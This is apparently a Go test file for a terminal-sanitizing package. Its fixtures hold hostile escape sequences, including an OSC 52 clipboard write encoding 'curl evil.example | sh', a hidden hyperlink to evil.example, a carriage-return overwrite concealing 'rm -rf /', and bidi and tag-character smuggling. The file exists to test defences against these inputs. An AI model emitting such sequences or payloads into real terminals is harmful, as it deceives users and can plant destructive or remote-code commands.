package termsafe

import (
	"bytes"
	"strings"
	"testing"
	"unicode/utf8"
)

// What a hostile model answer, file or commit message may carry, and what
// the terminal must be shown instead.
var hostile = []struct {
	name, in, want string
}{
	{"plain text stays", "Backoff doubles the wait: retry/backoff.go:3.", "Backoff doubles the wait: retry/backoff.go:3."},
	{"newline and tab stay", "a\n\tb\n", "a\n\tb\n"},
	{"crlf becomes lf", "a\r\nb\r\n", "a\nb\n"},
	{"non-ASCII letters and emoji stay", "héllo 日本語 👨‍👩‍👧 مرحبا עברית", "héllo 日本語 👨‍👩‍👧 مرحبا עברית"},
	{"bidi marks stay", "a\u200eb\u200fc\u061cd", "a\u200eb\u200fc\u061cd"},
	{"SGR colour", "\x1b[31mred\x1b[0m", `\x1b[31mred\x1b[0m`},
	{"CSI cursor up and erase line", "ok\x1b[1A\x1b[2Kfake", `ok\x1b[1A\x1b[2Kfake`},
	{"OSC 8 hyperlink hiding its destination", "\x1b]8;;https://evil.example/\x1b\\README.md:1\x1b]8;;\x1b\\", `\x1b]8;;https://evil.example/\x1b\README.md:1\x1b]8;;\x1b\`},
	{"OSC 52 clipboard write ended by BEL", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a", `\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a`},
	{"OSC title", "\x1b]0;pwned\x07", `\x1b]0;pwned\a`},
	{"carriage return overwrite", "rm -rf /\rls -la   ", `rm -rf /\rls -la   `},
	{"backspace overwrite", "safe\b\b\b\bevil", `safe\b\b\b\bevil`},
	{"NUL, bell, vertical tab, form feed, DEL", "a\x00b\x07c\x0bd\x0ce\x7f", `a\x00b\ac\vd\fe\x7f`},
	{"C1 CSI as UTF-8", "x\u009b31my", `x\u009b31my`},
	{"C1 OSC and ST as UTF-8", "\u009d8;;https://evil.example\u009c", `\u009d8;;https://evil.example\u009c`},
	{"C1 range ends", "\u0080\u009f\u00a0", `\u0080\u009f` + "\u00a0"},
	{"raw 8-bit CSI byte", "x\x9b31my", `x\x9b31my`},
	{"invalid UTF-8", "a\xff\xfeb\xc3", `a\xff\xfeb\xc3`},
	{"overlong encoding of ESC", "\xc0\x9b", `\xc0\x9b`},
	{"right-to-left override", "access = \u202euser\u202c", `access = \u202euser\u202c`},
	{"bidi embeddings", "\u202a\u202b\u202d", `\u202a\u202b\u202d`},
	{"bidi isolates", "\u2066a\u2067b\u2068c\u2069", `\u2066a\u2067b\u2068c\u2069`},
	{"invisible tag characters smuggling text", "ok\U000E0072\U000E006D\U000E007F", `ok\U000e0072\U000e006d\U000e007f`},
}

func TestString(t *testing.T) {
	for _, tc := range hostile {
		t.Run(tc.name, func(t *testing.T) {
			got := String(tc.in)
			if got != tc.want {
				t.Errorf("String(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if !clean(got) {
				t.Errorf("String(%q) = %q still holds a control", tc.in, got)
			}
		})
	}
}

// clean reports whether s is valid UTF-8 without any control but \n and \t.
func clean(s string) bool {
	return utf8.ValidString(s) && !strings.ContainsFunc(s, Unsafe) && !strings.Contains(s, "\r")
}

// A stream delivers text in pieces that may split a character, a \r\n or
// an escape sequence; the result must be the same as for the whole text.
func TestWriterSplitsAnywhere(t *testing.T) {
	for _, tc := range hostile {
		t.Run(tc.name, func(t *testing.T) {
			for cut := 0; cut <= len(tc.in); cut++ {
				var out bytes.Buffer
				w := NewWriter(&out)
				w.Write([]byte(tc.in[:cut]))
				w.Write([]byte(tc.in[cut:]))
				w.Flush()
				if out.String() != tc.want {
					t.Errorf("cut at %d: got %q, want %q", cut, out.String(), tc.want)
				}
			}
			var out bytes.Buffer
			w := NewWriter(&out)
			for i := 0; i < len(tc.in); i++ {
				w.Write([]byte{tc.in[i]})
			}
			w.Flush()
			if out.String() != tc.want {
				t.Errorf("byte by byte: got %q, want %q", out.String(), tc.want)
			}
		})
	}
}

// Raw is for the program's own sequences: it goes through unchanged, after
// what a Write held back.
func TestWriterRaw(t *testing.T) {
	var out bytes.Buffer
	w := NewWriter(&out)
	w.Write([]byte("a\xe2\x80"))
	w.Raw("\x1b[2m")
	w.Write([]byte("\x1b[31mb\r"))
	w.Raw("\x1b[0m")
	want := `a\xe2\x80` + "\x1b[2m" + `\x1b[31mb\r` + "\x1b[0m"
	if out.String() != want {
		t.Errorf("got %q, want %q", out.String(), want)
	}
}

func FuzzString(f *testing.F) {
	for _, tc := range hostile {
		f.Add(tc.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := String(s)
		if !clean(got) {
			t.Fatalf("String(%q) = %q holds a control", s, got)
		}
		if utf8.ValidString(s) && !strings.ContainsFunc(s, Unsafe) && got != s {
			t.Fatalf("String changed clean text %q to %q", s, got)
		}
	})
}

func BenchmarkString(b *testing.B) {
	s := strings.Repeat("Backoff doubles the wait: see retry/backoff.go:3-4 and the README. ", 200)
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		String(s)
	}
}
